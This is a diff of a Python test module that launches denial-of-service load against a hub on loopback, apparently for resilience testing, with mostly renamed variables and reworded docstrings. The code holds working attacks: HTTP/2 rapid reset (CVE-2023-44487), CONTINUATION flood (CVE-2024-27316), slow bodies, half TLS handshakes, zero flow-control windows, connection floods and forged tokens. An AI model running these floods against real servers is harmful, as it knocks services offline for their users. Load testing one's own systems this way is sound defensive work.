@@ -1,7 +1,8 @@
 """Unauthenticated load on a hub of this machine, in a process that yields the cores to all others.
 
-`python -m tests.attack.attackers FILE` reads from a JSON file what to attack and how, says that it is ready, begins
-with the first line on standard input and ends when that ends. Addresses other than loopback are refused.
+`python -m tests.attack.attackers FILE` reads the target and the kind of attack from a JSON file, prints that it is
+ready, starts at the first line on standard input and stops when standard input is closed. It refuses addresses other
+than loopback.
 """
 
 from __future__ import annotations
@@ -27,15 +28,17 @@ from tests.bench.callers import HEADERS, PING, RST_STREAM, SETTINGS, Call, frame
 from tests.bench.processes import allow_many_files, yield_cores
 from tests.support.raw_http2 import RawConnection
 
-AGAIN = 1.0  # seconds after which what the hub has ended is begun anew
-STRANGER = "127.0.0.2"  # another address than that of the honest callers
+AGAIN = 1.0  # seconds until what the hub has ended is started again
+STRANGER = "127.0.0.2"  # honest callers use another address
 CONTINUATION, PRIORITY = 9, 2
-RAMP = 0.005  # seconds between two that begin: a storm of handshakes is another attack than idle connections
+RAMP = 0.005  # seconds between two starts: a storm of handshakes is a different attack from idle connections
 Attack = Callable[[dict[str, Any]], Coroutine[Any, Any, None]]
 
 
-def listener(told: dict[str, Any], **options: Any) -> RawConnection:
-    return RawConnection(address(told["door"]), told["trust"].encode(), told["server_name"], **options)
+def listener(target: dict[str, Any], **options: Any) -> RawConnection:
+    return RawConnection(
+        address(target["listener"]), target["trust"].encode(), target["server_name"], **options
+    )
 
 
 def address(text: str) -> Address:
@@ -46,7 +49,7 @@ def address(text: str) -> Address:
 
 
 async def forever(count: int, one: Callable[[int], Awaitable[None]], *, ramp: float = RAMP) -> None:
-    """So many of it at once, each begun anew when it has ended or failed."""
+    """Run this many at once, each started again when it has ended or failed."""
 
     async def again(number: int) -> None:
         await asyncio.sleep(number * ramp)
@@ -60,11 +63,11 @@ async def forever(count: int, one: Callable[[int], Awaitable[None]], *, ramp: fl
             group.create_task(again(number))
 
 
-async def headers_without_a_body(told: dict[str, Any]) -> None:
-    """32 connections that keep 100 calls each begun, of which no message follows."""
+async def headers_without_a_body(target: dict[str, Any]) -> None:
+    """32 connections that keep 100 calls each open and never send a message."""
 
     async def one(_: int) -> None:
-        async with listener(told) as connection:
+        async with listener(target) as connection:
             begun = 0
             while not connection.closed.is_set():
                 for _ in range(100 - (begun - len(connection.ended))):
@@ -75,11 +78,11 @@ async def headers_without_a_body(told: dict[str, Any]) -> None:
     await forever(32, one)
 
 
-async def dripping_bodies(told: dict[str, Any]) -> None:
-    """32 connections with 16 calls each, whose message comes byte by byte."""
+async def dripping_bodies(target: dict[str, Any]) -> None:
+    """32 connections with 16 calls each, whose messages arrive byte by byte."""
 
     async def one(_: int) -> None:
-        async with listener(told) as connection:
+        async with listener(target) as connection:
             open_calls: set[int] = set()
             while not connection.closed.is_set():
                 open_calls -= connection.ended.keys()
@@ -94,12 +97,12 @@ async def dripping_bodies(told: dict[str, Any]) -> None:
     await forever(32, one)
 
 
-async def garbage_tokens(told: dict[str, Any]) -> None:
-    """200 calls a second with tokens that name the victim, each of another key that it does not have."""
+async def garbage_tokens(target: dict[str, Any]) -> None:
+    """200 calls a second with forged tokens that name the victim, half of them with key IDs that it does not have."""
     numbers = itertools.count()
-    head, claims, signature = told["token"].split(".")
+    head, claims, signature = target["token"].split(".")
     header = json.loads(base64.urlsafe_b64decode(head + "=" * (-len(head) % 4)))
-    message = base64.b64decode(told["message"])
+    message = base64.b64decode(target["message"])
 
     def token() -> str:
         number = next(numbers)
@@ -108,9 +111,9 @@ async def garbage_tokens(told: dict[str, Any]) -> None:
         return f"{forged}.{claims}.{number:08}{signature[8:]}"
 
     async def one(_: int) -> None:
-        async with listener(told) as connection:
+        async with listener(target) as connection:
             while not connection.closed.is_set():
-                sent = {"authorization": f"Bearer {token()}", "clusterid": told["victim"]}
+                sent = {"authorization": f"Bearer {token()}", "clusterid": target["victim"]}
                 stream = connection.headers(sent)
                 connection.data(stream, Call(b"", message).body, end=True)
                 await asyncio.sleep(16 / 200)
@@ -118,34 +121,34 @@ async def garbage_tokens(told: dict[str, Any]) -> None:
     await forever(16, one)
 
 
-async def provoked_looks(told: dict[str, Any]) -> None:
-    """Two calls a second with tokens of a key that the hostile member does not have yet: the hub looks at its keys."""
+async def unknown_key_ids(target: dict[str, Any]) -> None:
+    """Two calls a second with key IDs unknown to the hostile member, so that the hub reads its keys again."""
     numbers = itertools.count()
-    _, claims, signature = told["token"].split(".")
-    message = base64.b64decode(told["message"])
+    _, claims, signature = target["token"].split(".")
+    message = base64.b64decode(target["message"])
 
     async def one(_: int) -> None:
-        async with listener(told) as connection:
+        async with listener(target) as connection:
             while not connection.closed.is_set():
                 header = json.dumps({"alg": "RS256", "kid": f"unknown-{next(numbers)}"}).encode()
                 head = base64.urlsafe_b64encode(header).rstrip(b"=").decode()
                 token = f"{head}.{claims}.{signature}"
-                sent = {"authorization": f"Bearer {token}", "clusterid": told["hostile"]}
+                sent = {"authorization": f"Bearer {token}", "clusterid": target["hostile"]}
                 connection.data(connection.headers(sent), Call(b"", message).body, end=True)
                 await asyncio.sleep(0.5)
 
     await forever(1, one)
 
 
-async def idle_connections(told: dict[str, Any]) -> None:
-    """500 connections that shook hands and call nothing, and 200 that only connected."""
+async def idle_connections(target: dict[str, Any]) -> None:
+    """500 connections that make no call after their TLS handshake, and 200 without a handshake."""
 
     async def shaken(_: int) -> None:
-        async with listener(told) as connection:
+        async with listener(target) as connection:
             await connection.closed.wait()
 
     async def bare(_: int) -> None:
-        where = address(told["door"])
+        where = address(target["listener"])
         reader, writer = await asyncio.open_connection(where.host, where.port)
         try:
             await reader.read()
@@ -157,27 +160,27 @@ async def idle_connections(told: dict[str, Any]) -> None:
         group.create_task(forever(200, bare))
 
 
-async def crowds_of_connections(told: dict[str, Any]) -> None:
-    """2,000 connections of one address, each beginning anew as soon as it is closed: twice what the listener takes."""
+async def crowds_of_connections(target: dict[str, Any]) -> None:
+    """2,000 connections from one address, each opened again when it is closed: twice what the listener accepts."""
 
     async def one(number: int) -> None:
         if number % 2:
-            async with listener(told, source=STRANGER) as connection:
+            async with listener(target, source=STRANGER) as connection:
                 await connection.closed.wait()
         else:
-            await until_closed(told, b"")
+            await until_closed(target, b"")
 
     await forever(2000, one, ramp=0.0005)
 
 
-async def handshakes_without_an_end(told: dict[str, Any]) -> None:
-    """1,000 connections of one address that send half of a first message of TLS."""
-    await forever(1000, lambda _: until_closed(told, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc"), ramp=0.0005)
+async def handshakes_without_an_end(target: dict[str, Any]) -> None:
+    """1,000 connections from one address that send half a TLS ClientHello."""
+    await forever(1000, lambda _: until_closed(target, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc"), ramp=0.0005)
 
 
-async def failing_handshakes(told: dict[str, Any]) -> None:
-    """64 connections of one address at a time that do not accept the listener's certificate, again and again."""
-    where, untrusting = address(told["door"]), ssl.create_default_context()
+async def failing_handshakes(target: dict[str, Any]) -> None:
+    """64 connections at a time from one address that reject the listener's certificate, again and again."""
+    where, untrusting = address(target["listener"]), ssl.create_default_context()
     untrusting.set_alpn_protocols(["h2"])
 
     async def one(_number: int) -> None:
@@ -187,7 +190,7 @@ async def failing_handshakes(told: dict[str, Any]) -> None:
                     where.host,
                     where.port,
                     ssl=untrusting,
-                    server_hostname=told["server_name"],
+                    server_hostname=target["server_name"],
                     local_addr=(STRANGER, 0),
                 )
                 writer.close()
@@ -196,27 +199,27 @@ async def failing_handshakes(told: dict[str, Any]) -> None:
     await forever(64, one)
 
 
-async def until_closed(told: dict[str, Any], said: bytes) -> None:
-    """A connection that says no more than that and waits for its end."""
-    where = address(told["door"])
+async def until_closed(target: dict[str, Any], sent: bytes) -> None:
+    """Open a connection, send only these bytes and wait until it is closed."""
+    where = address(target["listener"])
     reader, writer = await asyncio.open_connection(where.host, where.port, local_addr=(STRANGER, 0))
     try:
-        writer.write(said)
+        writer.write(sent)
         await reader.read()
     finally:
         writer.close()
 
 
 def flood(of: Callable[[dict[str, Any], int], bytes]) -> Attack:
-    """32 connections of one address that send this as fast as it is taken, with odd numbers of streams."""
+    """32 connections from one address that send these frames as fast as they are read, on odd stream numbers."""
 
-    async def attack(told: dict[str, Any]) -> None:
+    async def attack(target: dict[str, Any]) -> None:
         async def one(_: int) -> None:
-            async with listener(told, source=STRANGER) as connection:
+            async with listener(target, source=STRANGER) as connection:
                 for number in itertools.count():
                     if connection.closed.is_set():
                         return
-                    connection.send(of(told, 2 * number + 1))
+                    connection.send(of(target, 2 * number + 1))
                     await connection.drain()
 
         await forever(32, one)
@@ -224,16 +227,16 @@ def flood(of: Callable[[dict[str, Any], int], bytes]) -> Attack:
     return attack
 
 
-def resets(told: dict[str, Any], stream: int) -> bytes:
-    """A call and its end at once (CVE-2023-44487)."""
-    call = Call(header_block(METHOD, told["server_name"], {}), base64.b64decode(told["message"]))
+def resets(target: dict[str, Any], stream: int) -> bytes:
+    """A call and its reset at once (CVE-2023-44487)."""
+    call = Call(header_block(METHOD, target["server_name"], {}), base64.b64decode(target["message"]))
     return call.frames(stream) + frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08")
 
 
-def continuations(told: dict[str, Any], stream: int) -> bytes:
-    """Headers at first, and then more of them without an end (CVE-2024-27316)."""
+def continuations(target: dict[str, Any], stream: int) -> bytes:
+    """HEADERS first, then CONTINUATION frames without end (CVE-2024-27316)."""
     if stream == 1:
-        return frame(HEADERS, 0, 1, header_block(METHOD, told["server_name"], {}))
+        return frame(HEADERS, 0, 1, header_block(METHOD, target["server_name"], {}))
     return frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100)
 
 
@@ -242,14 +245,14 @@ def control(_: dict[str, Any], __: int) -> bytes:
     return (frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0, b"") + frame(PRIORITY, 0, 1, bytes(5))) * 20
 
 
-async def readers_that_do_not_read(told: dict[str, Any]) -> None:
-    """32 connections with 16 calls each that are answered, but give no window for the answers."""
-    sent = {"authorization": f"Bearer {told['token']}", "clusterid": told["victim"]}
-    call = Call(header_block(METHOD, told["server_name"], sent), base64.b64decode(told["message"]))
+async def readers_that_do_not_read(target: dict[str, Any]) -> None:
+    """32 connections with 16 answered calls each and a flow-control window of zero for the answers."""
+    sent = {"authorization": f"Bearer {target['token']}", "clusterid": target["victim"]}
+    call = Call(header_block(METHOD, target["server_name"], sent), base64.b64decode(target["message"]))
     no_window = struct.pack(">HIHI", 1, 0, 4, 0)
 
     async def one(_: int) -> None:
-        async with listener(told, source=STRANGER, settings=no_window) as connection:
+        async with listener(target, source=STRANGER, settings=no_window) as connection:
             for number in range(16):
                 connection.send(call.frames(2 * number + 1))
             await connection.closed.wait()
@@ -257,11 +260,11 @@ async def readers_that_do_not_read(told: dict[str, Any]) -> None:
     await forever(32, one)
 
 
-async def idle_keep_alive(told: dict[str, Any]) -> None:
-    """300 connections at each status and health address that made one request and keep the connection."""
+async def idle_keep_alive(target: dict[str, Any]) -> None:
+    """300 connections to each status and health address that make one request and stay open."""
 
     async def one(number: int) -> None:
-        where = address(told["listeners"][number % len(told["listeners"])])
+        where = address(target["http_addresses"][number % len(target["http_addresses"])])
         reader, writer = await asyncio.open_connection(where.host, where.port)
         try:
             writer.write(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
@@ -270,14 +273,14 @@ async def idle_keep_alive(told: dict[str, Any]) -> None:
         finally:
             writer.close()
 
-    await forever(300 * len(told["listeners"]), one)
+    await forever(300 * len(target["http_addresses"]), one)
 
 
 ATTACKS: dict[str, Attack] = {
     "headers-without-a-body": headers_without_a_body,
     "dripping-bodies": dripping_bodies,
     "garbage-tokens": garbage_tokens,
-    "provoked-looks": provoked_looks,
+    "unknown-key-ids": unknown_key_ids,
     "idle-connections": idle_connections,
     "idle-keep-alive": idle_keep_alive,
     "crowds-of-connections": crowds_of_connections,
@@ -290,15 +293,15 @@ ATTACKS: dict[str, Attack] = {
 }
 
 
-async def serve(told: dict[str, Any]) -> None:
+async def serve(target: dict[str, Any]) -> None:
     lines = asyncio.StreamReader()
     loop = asyncio.get_running_loop()
     await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(lines), sys.stdin)
     print(json.dumps({"ready": True}), flush=True)
     if not await lines.readline():
         return
-    print(json.dumps({"answer": "begun"}), flush=True)
-    attack = asyncio.create_task(ATTACKS[told["attack"]](told))
+    print(json.dumps({"answer": "started"}), flush=True)
+    attack = asyncio.create_task(ATTACKS[target["attack"]](target))
     ended = asyncio.create_task(lines.read())
     await asyncio.wait([attack, ended], return_when=asyncio.FIRST_COMPLETED)
     attack.cancel()
